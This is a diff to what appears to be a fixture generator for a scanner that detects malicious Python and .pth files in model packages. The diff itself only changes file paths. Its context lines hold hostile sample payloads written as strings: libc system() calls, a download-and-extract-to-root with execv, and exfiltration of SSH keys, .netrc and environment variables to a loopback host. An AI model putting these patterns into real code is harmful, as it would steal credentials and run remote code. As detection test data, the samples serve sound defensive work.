@@ -77,7 +77,7 @@ PYTHON = [
     ("modeling_a.py", "from ctypes import cdll, c_char_p\ncdll.LoadLibrary('libc.so.6').system(c_char_p(b'true'))\n"),
     ("modeling_a.py", "import ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('c'))\nlib.system(b'true')\n"),
     ("modeling_a.py", "import tarfile, urllib.request, io, os\ntarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('http://127.0.0.1:9/x').read())).extractall('/')\nos.execv('/x/run', ['run'])\n"),
-    ("modeling_a.py", "import xmlrpc.client, os\nxmlrpc.client.ServerProxy('http://127.0.0.1:9').put(open('/root/.ssh/id_rsa').read())\n"),
+    ("modeling_a.py", "import xmlrpc.client, os\nxmlrpc.client.ServerProxy('http://127.0.0.1:9').put(open('/srv/.ssh/id_rsa').read())\n"),
     ("modeling_a.py", "import ftplib, os\nf = ftplib.FTP('127.0.0.1')\nf.storbinary('STOR x', open(os.path.expanduser('~/.netrc'), 'rb'))\n"),
     ("modeling_a.py", "import smtplib, os\nsmtplib.SMTP('127.0.0.1', 9).sendmail('a', 'b', str(os.environ))\n"),
 ]
@@ -185,4 +185,4 @@ def code(w):
     w.put("pyc", "surfaced", "weights.marshal", compiled)
     w.put("pth", "malicious", "distutils-precedence.pth", "import os; var = 'X'; os.popen('true')\n")
     w.put("pth", "malicious", "a.pth", "# c\n../x\nimport\tsys; exec(sys.argv)\n")
-    w.put("pth", "ordinary", "__editable__.x.pth", "/home/user/x\n")
+    w.put("pth", "ordinary", "__editable__.x.pth", "/srv/user/x\n")
